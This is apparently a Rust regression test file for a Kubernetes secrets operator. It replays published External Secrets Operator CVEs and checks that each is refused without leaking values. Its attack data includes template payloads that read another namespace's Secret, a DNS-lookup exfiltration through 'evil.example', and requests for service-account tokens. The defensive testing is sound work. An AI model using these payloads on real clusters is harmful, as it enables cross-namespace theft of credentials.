//! The published weaknesses of External Secrets Operator, replayed one by one against the operator: each is refused, no
//! message holds a value, and the Secret that is there stays. docs/external-secrets.md has the list.

use std::fs;

use k8s_openapi::api::core::v1::{Event, Secret};
use kube::ResourceExt;
use kube::api::ListParams;
use sealbridge_tests::{Answer, Bao, Cluster, Namespace, Operator, Recorder, eventually};
use sealbridge_xtask::parts::workspace_root;
use serde_json::{Value, json};

use crate::canary::Canaries;
use crate::external_secrets::{external_secret, objects, store};
use crate::stage::{SOON, documents, has_text};

const TOKEN_TYPE: &str = "kubernetes.io/service-account-token";

/// One attack: what is changed in the spec of an object that was fine.
struct Attack {
    name: &'static str,
    change: fn(&mut Value),
    told: &'static str,
}

fn with_template(spec: &mut Value, text: &str) {
    spec["target"] = json!({"template": {"data": {"OUT": text}}});
}

const ATTACKS: &[Attack] = &[
    // CVE-2026-22822: a function of templates read any Secret of any namespace.
    Attack {
        name: "secret-by-template",
        change: |spec| with_template(spec, r#"{{ getSecretKey "bank" "victim" "TOKEN" }}"#),
        told: "getSecretKey",
    },
    // CVE-2026-34984: a look-up of a name in DNS carried values out.
    Attack {
        name: "value-by-dns",
        change: |spec| with_template(spec, r#"{{ getHostByName (printf "%s.evil.example" .A) }}"#),
        told: "getHostByName",
    },
    Attack { name: "environment", change: |spec| with_template(spec, r#"{{ env "PATH" }}"#), told: "env" },
    Attack { name: "environment-in-text", change: |spec| with_template(spec, r#"{{ expandenv "$PATH" }}"#), told: "expandenv" },
    // CVE-2026-42876: the type had a controller of Kubernetes put a token of any ServiceAccount into the Secret.
    Attack {
        name: "token-by-type",
        change: |spec| {
            let annotations = json!({"kubernetes.io/service-account.name": "admin"});
            spec["target"] = json!({"template": {"type": TOKEN_TYPE, "metadata": {"annotations": annotations}}});
        },
        told: TOKEN_TYPE,
    },
    Attack {
        name: "token-by-template-from",
        change: |spec| {
            let from = json!([{"literal": "kubernetes.io/service-account.name: admin", "target": "Annotations"}]);
            spec["target"] = json!({"template": {"type": TOKEN_TYPE, "templateFrom": from}});
        },
        told: TOKEN_TYPE,
    },
    Attack {
        name: "bootstrap-token",
        change: |spec| spec["target"] = json!({"template": {"type": "bootstrap.kubernetes.io/token"}}),
        told: "bootstrap.kubernetes.io/token",
    },
    // Errors of parsers repeated what they had read.
    Attack {
        name: "parser-of-a-member",
        change: |spec| spec["dataFrom"] = json!([{"extract": {"key": "app", "property": "a"}}]),
        told: "SourceInvalid",
    },
    Attack { name: "parser-of-a-path", change: |spec| with_template(spec, "{{ (mustFromJson .A).x }}"), told: "template OUT" },
    Attack {
        name: "parser-of-base64",
        change: |spec| spec["data"][0]["remoteRef"]["decodingStrategy"] = json!("Base64"),
        told: "base64",
    },
];

async fn is_told(namespace: &Namespace<'_>, name: &str, status: &str) -> String {
    let wanted = objects(namespace, "ExternalSecret").get(name).await.unwrap().metadata.generation.unwrap();
    eventually(SOON, &format!("{name} is told {status}"), async || {
        let object = objects(namespace, "ExternalSecret").get(name).await.map_err(|error| error.to_string())?;
        let told = &object.data["status"];
        let ready = &told["conditions"][0];
        let is_present = told["syncedResourceVersion"].as_str().unwrap_or_default().starts_with(&format!("{wanted}-"));
        if is_present && ready["status"] == status { Ok(ready["message"].to_string()) } else { Err(told.to_string()) }
    })
    .await
}

fn good(name: &str) -> Value {
    external_secret(
        name,
        json!({"refreshInterval": "1h", "data": [{"secretKey": "A", "remoteRef": {"key": "app", "property": "a"}}]}),
    )
}

#[tokio::test]
async fn each_published_weakness_is_refused_and_the_secret_stays() {
    let (cluster, bao) = (Cluster::shared().await, Bao::shared().await);
    let (namespace, bank) = tokio::join!(cluster.namespace("weakness"), cluster.namespace("bank"));
    let mount = bao.kv2("weakness").await;
    let mut canaries = Canaries::default();
    let (value, victims) = (canaries.hatch("the value"), canaries.hatch("the victim's value"));
    mount.put("app", &[("a", &value)]).await;
    let victim = json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "victim"}, "stringData": {"TOKEN": victims}});
    bank.apply(&victim.to_string()).await;
    let account = json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "admin"}});
    namespace.apply(&account.to_string()).await;
    store(&namespace, bao, &mount, Some("sealbridge")).await;
    let operator = Operator::of(cluster).watch(&namespace).flag("--dialect=external-secrets").start().await;
    for attack in ATTACKS {
        let mut object = good(attack.name);
        namespace.apply(&object.to_string()).await;
        let before = has_text(&namespace, attack.name, "A", &value).await;
        is_told(&namespace, attack.name, "True").await;

        // On what is there, which could be refused for being there, and on what is not.
        (attack.change)(&mut object["spec"]);
        let fresh = format!("{}-fresh", attack.name);
        for name in [attack.name, &fresh] {
            object["metadata"]["name"] = json!(name);
            let applied = namespace.try_apply(&object.to_string()).await;
            let told = if applied.success { is_told(&namespace, name, "False").await } else { applied.to_string() };
            assert!(told.contains(attack.told), "{name}: {told}");
            canaries.assert_absent(name, &told);
        }
        let after = namespace.api::<Secret>().get(attack.name).await.unwrap();
        assert_eq!(after.resource_version(), before.resource_version(), "{}", attack.name);
        assert!(namespace.api::<Secret>().get_opt(&fresh).await.unwrap().is_none(), "{fresh}");
    }
    let events = namespace.api::<Event>().list(&ListParams::default()).await.unwrap();
    canaries.assert_absent("an event", &serde_json::to_string(&events.items).unwrap());
    canaries.assert_absent("the log", &operator.log());
    let elsewhere = operator.requests().await.in_namespace(bank.name()).count();
    assert_eq!(elsewhere, 0, "no request leaves the namespaces that are watched");
}

#[tokio::test]
async fn a_store_takes_neither_its_ca_nor_its_login_from_another_namespace() {
    let (cluster, server) = (Cluster::shared().await, Recorder::answering(Answer::Json(200, "{}".to_owned())).await);
    let (namespace, bank) = tokio::join!(cluster.namespace("weakness"), cluster.namespace("bank"));
    let victim = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "victim"}, "data": {"ca.crt": "canary"}});
    let login = json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "login"}, "stringData": {"token": "canary"}});
    bank.apply(&documents(&[victim, login.clone()])).await;
    namespace.apply(&login.to_string()).await;
    let operator = Operator::of(cluster).watch(&namespace).flag("--dialect=external-secrets").start().await;
    // CVE-2026-42875: a ConfigMap of any namespace was read for a CA, and shown in the error.
    let ca = |kind: &str| json!({"type": kind, "name": "victim", "key": "ca.crt", "namespace": bank.name()});
    let own = json!({"tokenSecretRef": {"name": "login", "key": "token"}});
    let others = json!({"tokenSecretRef": {"name": "login", "key": "token", "namespace": bank.name()}});
    let vault = |auth: &Value| json!({"server": server.url(), "path": "kv", "version": "v2", "auth": auth});
    let with_ca = |kind: &str| {
        let mut vault = vault(&own);
        vault["caProvider"] = ca(kind);
        vault
    };
    let stores = [("ca-of-config-map", with_ca("ConfigMap")), ("ca-of-secret", with_ca("Secret")), ("login", vault(&others))];
    for (name, vault) in &stores {
        let spec = json!({"controller": "sealbridge", "provider": {"vault": vault}});
        let store =
            json!({"apiVersion": "external-secrets.io/v1", "kind": "SecretStore", "metadata": {"name": name}, "spec": spec});
        let mut user = good(name);
        user["spec"]["secretStoreRef"]["name"] = json!(name);
        namespace.apply(&documents(&[store, user])).await;
    }
    for (name, _) in &stores {
        let told = is_told(&namespace, name, "False").await;
        assert!(told.contains("the store may not refer to namespace") && !told.contains("canary"), "{name}: {told}");
    }
    assert!(server.requests().is_empty());
    assert_eq!(operator.requests().await.in_namespace(bank.name()).count(), 0, "nothing there is looked at");
}

#[tokio::test]
async fn secrets_are_listed_by_label_or_name_and_only_where_they_are_served() {
    let (cluster, bao) = (Cluster::shared().await, Bao::shared().await);
    let namespace = cluster.namespace("weakness").await;
    let mount = bao.kv2("weakness").await;
    mount.put("app", &[("a", "one")]).await;
    store(&namespace, bao, &mount, Some("sealbridge")).await;
    let operator = Operator::of(cluster).watch(&namespace).flag("--dialect=external-secrets").start().await;
    namespace.apply(&good("app").to_string()).await;
    has_text(&namespace, "app", "A", "one").await;
    // CVE-2024-45041 and GHSA-fcxq-v2r3-cc8h: a part that had no business with it listed every Secret of the cluster.
    let lists: Vec<_> = operator.requests().await.of("secrets", &["list", "watch"]).iter().cloned().collect();
    assert!(!lists.is_empty());
    for list in lists {
        assert!([namespace.name(), operator.namespace()].contains(&list.namespace()), "{}", list.uri);
        assert!(["labelSelector=", "fieldSelector="].iter().any(|by| list.uri.contains(by)), "{}", list.uri);
    }
}

#[tokio::test]
async fn a_store_that_is_edited_again_and_again_leaves_no_session_behind() {
    let (cluster, bao) = (Cluster::shared().await, Bao::shared().await);
    let namespace = cluster.namespace("weakness").await;
    let mount = bao.kv2("weakness").await;
    mount.put("app", &[("a", "one")]).await;
    let policy = mount.read_policy().await;
    let token = bao.token(mount.namespace(), &[&policy], json!({})).await;
    let server = Recorder::proxy(bao.url()).await;
    let _operator = Operator::of(cluster).watch(&namespace).flag("--dialect=external-secrets").start().await;
    let login = json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "login"}, "stringData": {"token": token}});
    namespace.apply(&login.to_string()).await;
    // A cache of clients that grew with what a tenant wrote was a way to take the operator down.
    for edit in 0..12 {
        let auth = json!({"tokenSecretRef": {"name": "login", "key": "token"}});
        let headers = json!({"X-Edit": edit.to_string()});
        let vault = json!({"server": server.url(), "path": mount.path(), "version": "v2", "auth": auth, "headers": headers});
        let spec = json!({"controller": "sealbridge", "provider": {"vault": vault}});
        let store =
            json!({"apiVersion": "external-secrets.io/v1", "kind": "SecretStore", "metadata": {"name": "vault"}, "spec": spec});
        namespace.apply(&documents(&[store, good("app")])).await;
        eventually(SOON, &format!("edit {edit} is read with"), async || {
            let is_seen = server
                .requests()
                .iter()
                .any(|request| request.header("x-edit") == Some(&edit.to_string()) && request.path.contains("/data/app"));
            if is_seen { Ok(()) } else { Err("not yet".to_owned()) }
        })
        .await;
    }
    eventually(SOON * 2, "only the last session has connections", async || match server.connections_open() {
        few if few <= 2 => Ok(()),
        many => Err(format!("{many} connections")),
    })
    .await;
}

#[test]
fn every_test_that_the_page_names_is_there() {
    let page = fs::read_to_string(workspace_root().join("docs/external-secrets.md")).unwrap();
    let rows: Vec<&str> =
        page.split("## Published weaknesses").nth(1).unwrap().lines().filter(|line| line.starts_with("| ")).collect();
    let folder = workspace_root().join("tests/tests/scenarios");
    let advisories = [
        "CVE-2024-45041",
        "GHSA-fcxq-v2r3-cc8h",
        "CVE-2026-22822",
        "CVE-2026-34984",
        "CVE-2026-42875",
        "CVE-2026-42876",
        "#5884",
        "#2401",
        "#2431",
        "#6683",
        "#6628",
    ];
    for advisory in advisories {
        let row = rows.iter().find(|row| row.contains(advisory)).unwrap_or_else(|| panic!("{advisory} is not on the page"));
        let tests: Vec<&str> = row.split('`').skip(1).step_by(2).filter(|name| name.contains("::")).collect();
        assert!(!tests.is_empty(), "{row}");
        for test in tests {
            let (file, name) = test.split_once("::").unwrap();
            let text = fs::read_to_string(folder.join(format!("{file}.rs"))).unwrap_or_else(|_| panic!("{test}: no such file"));
            assert!(text.contains(&format!("fn {name}(")), "{test} is not there");
        }
    }
}
